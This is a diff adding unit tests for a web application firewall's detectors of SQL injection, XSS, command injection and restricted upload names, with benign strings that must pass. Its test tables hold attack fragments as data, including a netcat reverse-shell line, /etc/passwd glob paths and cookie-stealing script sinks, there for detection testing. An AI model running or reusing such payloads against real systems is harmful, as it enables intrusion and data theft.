@@ -1,7 +1,8 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
 import { detectCmdi } from '../../../src/controls/inspection/cmdi.ts';
-import { detectLfi, detectRestrictedPath } from '../../../src/controls/inspection/lfi.ts';
+import { DETECTORS, Engine } from '../../../src/controls/inspection/engine.ts';
+import { detectLfi, detectRestrictedPath, detectRestrictedUpload } from '../../../src/controls/inspection/lfi.ts';
 import { detectLdap, detectNosql, detectSsti } from '../../../src/controls/inspection/misc.ts';
 import { htmlEntityDecode, normalize, percentDecode } from '../../../src/controls/inspection/normalize.ts';
 import { detectSqli, fingerprint } from '../../../src/controls/inspection/sqli.ts';
@@ -356,6 +357,132 @@ describe('nosql, ssti, ldap', () => {
   });
 });
 
+describe('paranoia levels 2 and 3', () => {
+  /** Detector hit of `f` on the normalised value, as `rule@level`, or `pass`. */
+  const at = (f: (s: string) => { rule: string; paranoia: number } | undefined, v: string): string => {
+    const h = f(n(v));
+    return h === undefined ? 'pass' : `${h.rule}@${h.paranoia}`;
+  };
+  const sqli: [string, string][] = [
+    ['in (0,1)', 'in-list@2'],
+    ['execute php', 'exec@2'],
+    ['Rand (', 'function-probe:rand@2'],
+    ['version=(', 'function-probe:version@2'],
+    ["something LIKE '", 'operator-quote@2'],
+    ['or 88', 'logic-probe@2'],
+    ['"a" xor "b"', 'operator:xor@2'],
+    ["and '5'orig", 'logic-string@2'],
+    ["id'not glob-id--", "':operator-comment@2"],
+    ["\\'and", "':backslash-breakout@2"],
+    ['admin@x.io\\\' and( likelihood (id,.0));\'', "':backslash-breakout@2"],
+    ['` REGEXP ', '`:operator@2'],
+    [') when 234 then', 'case-when@2'],
+    [') as User from', 'alias-from@2'],
+    [';SET @OLD_SQL_MODE', 'set-variable@2'],
+    ['"2562*23', 'quote-probe@3'],
+    ['`bla`', 'back-quoted-name@3'],
+    ['order by', 'fragment:order by@3'],
+    ['<=>', 'operator@3'],
+  ];
+  for (const [attack, want] of sqli) it(`sqli ${JSON.stringify(attack)} → ${want}`, () => assert.equal(at(detectSqli, attack), want));
+  const xss: [string, string][] = [
+    ['<noscript#', 'tag-prefix:noscript@2'],
+    ['import { sayHi, sayBye } from "./greeting.js";', 'js-import@2'],
+    ['-->', 'comment-close@3'],
+    ['document /*foo*/ .     cookie', 'script-sink@1'],
+    ['x=k:v;z:url(javascript', 'css-script@1'],
+    ['$<d i a l o g', 'spaced-tag@1'],
+    ['\u00bcscript\u00bealert(1)\u00bc/script\u00be', 'tag:script@1'],
+    ['foo!ENTITY % bar SYSTEM', 'markup-declaration@1'],
+  ];
+  for (const [attack, want] of xss) it(`xss ${JSON.stringify(attack)} → ${want}`, () => assert.equal(at(detectXss, attack), want));
+  const cmdi: [string, string][] = [
+    ['${x#{}}', 'parameter-expansion@2'],
+    ['/[e///]tc', 'glob-path:/etc@2'],
+    ['/*/*', 'glob-path:/etc/passwd@2'],
+    [';top Something else', 'leading-separator:top@2'],
+    [';at 2:00 "echo test"', 'leading-separator:at@2'],
+    ['ansible all -m ping', 'command-line:ansible@2'],
+    ['~+', 'tilde-expansion@2'],
+    ['~-1', 'tilde-expansion@2'],
+    ['~0', 'tilde-expansion@3'],
+    ['!-1!-2', 'history-expansion@2'],
+    ['\\ls', 'escaped-command:ls@2'],
+    ['>/tmp/curl', 'redirection@2'],
+    [';\\n.shell nc 10.0.0.1 6666 -e sh', 'sqlite-dot-command@2'],
+    ['if (AA) == (AA) echo same', 'windows-if@1'],
+    ['bin/chef', 'shell-binary:chef@1'],
+    ['x&bcdboot/r file.txt', 'command:bcdboot@1'],
+    ['cat+/ET*/*WD', 'glob-path:/etc/passwd@1'],
+  ];
+  for (const [attack, want] of cmdi) it(`cmdi ${JSON.stringify(attack)} → ${want}`, () => assert.equal(at(detectCmdi, attack), want));
+  it('restricted upload names (X-Filename)', () => {
+    assert.equal(detectRestrictedUpload('settings.php')?.paranoia, 1);
+    assert.equal(detectRestrictedUpload('.boto')?.rule, 'restricted-upload:dot-file');
+    assert.equal(detectRestrictedUpload('config.yml ')?.paranoia, 2);
+    assert.equal(detectRestrictedUpload('wp-config_php.txt')?.paranoia, 2);
+    assert.equal(detectRestrictedUpload('acpi')?.paranoia, 2);
+    for (const ok of ['report.pdf', 'photo 1.jpg', 'settings-icon.png', 'config', 'invoice-2024.json', 'C:\\Users\\me\\notes.txt'])
+      assert.equal(detectRestrictedUpload(ok.toLowerCase()), undefined, ok);
+  });
+  it('a DOM global as a parameter or cookie name counts from paranoia level 2', () => {
+    for (const [pl, want] of [
+      [1, 0],
+      [2, 1],
+    ] as const) {
+      const scan = new Engine({ paranoia: pl, threshold: 5, enabled: new Set(DETECTORS), stopAtThreshold: true, maxHits: 5 }).scan();
+      scan.inspect('window.location', true, () => 'cookie:window.location');
+      assert.equal(scan.hits.length, want);
+    }
+  });
+  // what the new level-2 rules must leave alone: prose, code-ish product names, Markdown, JSON with file paths, maths
+  // (Markdown code spans holding a command, `` `make` ``, and `; set` count at level 2 by design: see 'command injection')
+  const benign = [
+    'Published year (2024)',
+    'Happy new year :(',
+    'and 2 others',
+    'I said or 5 things',
+    'xor gate tutorial',
+    'use a xor b',
+    'it sounds like "fun"',
+    "O\\'Reilly and friends",
+    'Execute the plan today, then report',
+    'a --> b',
+    'step 1 --> step 2',
+    'import data from a CSV file',
+    'Upload the document/contract.pdf',
+    'see document.pdf, 1/4 done',
+    'Node.js, Vue.js and C# | F#',
+    '**Note**: the `--force` flag',
+    '{"path": "/usr/local/lib/libfoo.so", "dir": "src/app"}',
+    '/api/*',
+    '/*',
+    '~5 items',
+    'about ~20 minutes',
+    'x ~ y',
+    'wow!!',
+    'hello ${name}',
+    'price: $5; total: $10',
+    'Ready; steady; go',
+    'red;blue;green',
+    '5 - 3 = 2, a != b',
+    '1/2 + 3/4 = 5/4',
+    'f(x) = x^2 + 3x (for x > 0)',
+    'C:\\Users\\me\\file.txt',
+    '>= 5 items',
+  ];
+  for (const v of benign) {
+    it(`passes at paranoia level 2: ${JSON.stringify(v)}`, () => {
+      const scan = new Engine({ paranoia: 2, threshold: 5, enabled: new Set(DETECTORS), stopAtThreshold: true, maxHits: 5 }).scan();
+      scan.inspect(v, false, () => 'body:/x');
+      assert.deepEqual(
+        scan.hits.map((h) => `${h.detector}:${h.rule}`),
+        [],
+      );
+    });
+  }
+});
+
 describe('linear time on pathological inputs', () => {
   const big = 100 * 1024;
   const inputs = [
@@ -375,6 +502,11 @@ describe('linear time on pathological inputs', () => {
     '%25'.repeat(big / 3),
     '&#'.repeat(big / 2),
     '/*'.repeat(big / 2),
+    '; '.repeat(big / 2),
+    "\\'".repeat(big / 2),
+    'url('.repeat(big / 4),
+    '!-'.repeat(big / 2),
+    ' (('.repeat(big / 3),
     'a'.repeat(big),
   ];
   for (const input of inputs) {
